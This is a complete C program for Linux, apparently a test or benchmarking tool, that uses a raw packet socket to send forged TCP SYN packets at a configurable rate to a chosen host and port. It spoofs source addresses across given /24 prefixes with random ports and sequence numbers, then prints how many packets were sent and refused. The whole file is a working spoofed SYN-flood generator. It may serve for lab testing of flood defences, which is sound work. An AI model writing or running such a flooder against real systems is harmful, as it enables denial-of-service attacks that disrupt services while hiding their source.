/*
 * Sends forged SYNs out of one interface at a steady rate, and says how many it got rid of.
 *
 * Usage: syns INTERFACE MAC ADDRESS PORT RATE SECONDS SEED PREFIX...
 * MAC, ADDRESS, PORT: where the SYNs go. RATE: SYNs per second. PREFIX: a network of 24 bits, as 198.51.100.0; the sources are its addresses
 * 10 to 249, prefix after prefix in turn, ports and sequence numbers at random.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { IP = 14, TCP = IP + 20, LENGTH = TCP + 24, MOST_PREFIXES = 8, TICK = 1000000 };

static uint64_t state;

static uint32_t any(void) { /* xorshift64*, Vigna 2016 */
  state ^= state >> 12;
  state ^= state << 25;
  state ^= state >> 27;
  return (uint32_t)(state * 0x2545F4914F6CDD1DULL >> 32);
}

static void put16(uint8_t *at, uint32_t value) {
  at[0] = (uint8_t)(value >> 8);
  at[1] = (uint8_t)value;
}

static void put32(uint8_t *at, uint32_t value) {
  put16(at, value >> 16);
  put16(at + 2, value & 0xFFFF);
}

static uint32_t sum(const uint8_t *at, int length) {
  uint32_t total = 0;
  for (int i = 0; i < length; i += 2) total += (uint32_t)at[i] << 8 | at[i + 1];
  return total;
}

static uint32_t folded(uint32_t total) {
  while (total >> 16) total = (total & 0xFFFF) + (total >> 16);
  return ~total & 0xFFFF;
}

/* Addresses are in the order of the host. */
static void forge(uint8_t *frame, uint32_t source) {
  put32(frame + IP + 12, source);
  put16(frame + IP + 10, 0);
  put16(frame + IP + 10, folded(sum(frame + IP, 20)));
  put16(frame + TCP, 1024 + any() % 64512);
  put32(frame + TCP + 4, any());
  put16(frame + TCP + 16, 0);
  put16(frame + TCP + 16, folded(sum(frame + IP + 12, 8) + IPPROTO_TCP + 24 + sum(frame + TCP, 24)));
}

static void fail(const char *what) {
  fprintf(stderr, "syns: %s: %s\n", what, strerror(errno));
  exit(3);
}

int main(int argc, char **argv) {
  if (argc < 9 || argc > 8 + MOST_PREFIXES) {
    fprintf(stderr, "usage: syns INTERFACE MAC ADDRESS PORT RATE SECONDS SEED PREFIX...\n");
    return 2;
  }
  uint8_t frame[LENGTH] = {0};
  struct in_addr target;
  unsigned mac[6];
  if (sscanf(argv[2], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6 || !inet_aton(argv[3], &target)) {
    fprintf(stderr, "syns: %s, %s: not a MAC address and an IPv4 address\n", argv[2], argv[3]);
    return 2;
  }
  long rate = atol(argv[5]);
  long seconds = atol(argv[6]);
  state = strtoull(argv[7], NULL, 10) * 2 + 1;
  int prefixes = argc - 8;
  uint32_t prefix[MOST_PREFIXES];
  for (int i = 0; i < prefixes; i++) prefix[i] = ntohl(inet_addr(argv[8 + i]));

  int fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (fd < 0) fail("a packet socket");
  struct ifreq request = {0};
  strncpy(request.ifr_name, argv[1], IFNAMSIZ - 1);
  if (ioctl(fd, SIOCGIFINDEX, &request) < 0) fail(argv[1]);
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = request.ifr_ifindex, .sll_halen = 6};
  if (ioctl(fd, SIOCGIFHWADDR, &request) < 0) fail(argv[1]);

  for (int i = 0; i < 6; i++) frame[i] = to.sll_addr[i] = (uint8_t)mac[i];
  memcpy(frame + 6, request.ifr_hwaddr.sa_data, 6);
  put16(frame + 12, ETH_P_IP);
  frame[IP] = 0x45;
  put16(frame + IP + 2, LENGTH - IP);
  put16(frame + IP + 6, IP_DF);
  frame[IP + 8] = 64;
  frame[IP + 9] = IPPROTO_TCP;
  put32(frame + IP + 16, ntohl(target.s_addr));
  put16(frame + TCP + 2, (uint32_t)atol(argv[4]));
  frame[TCP + 12] = 6 << 4;
  frame[TCP + 13] = 0x02; /* SYN */
  put16(frame + TCP + 14, 65535);
  put32(frame + TCP + 20, 0x02040000 | 1460); /* MSS */

  struct timespec begin, next, now;
  clock_gettime(CLOCK_MONOTONIC, &begin);
  next = begin;
  long sent = 0, refused = 0, tried = 0;
  while (tried < rate * seconds) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    double passed = (double)(now.tv_sec - begin.tv_sec) + (double)(now.tv_nsec - begin.tv_nsec) / 1e9;
    if (passed >= (double)seconds + 1) break; /* the machine is too slow for this rate: say so in the figures */
    long due = (long)(passed * (double)rate);
    if (due > rate * seconds) due = rate * seconds;
    for (; tried < due; tried++) {
      forge(frame, prefix[tried % prefixes] + 10 + any() % 240);
      if (sendto(fd, frame, LENGTH, 0, (struct sockaddr *)&to, sizeof to) == LENGTH) sent++;
      else if (errno == ENOBUFS || errno == EAGAIN) refused++;
      else fail("sending");
    }
    next.tv_nsec += TICK;
    if (next.tv_nsec >= 1000000000) {
      next.tv_nsec -= 1000000000;
      next.tv_sec++;
    }
    clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
  }
  clock_gettime(CLOCK_MONOTONIC, &now);
  double took = (double)(now.tv_sec - begin.tv_sec) + (double)(now.tv_nsec - begin.tv_nsec) / 1e9;
  printf("%ld %ld %.2f\n", sent, refused, took);
  return 0;
}
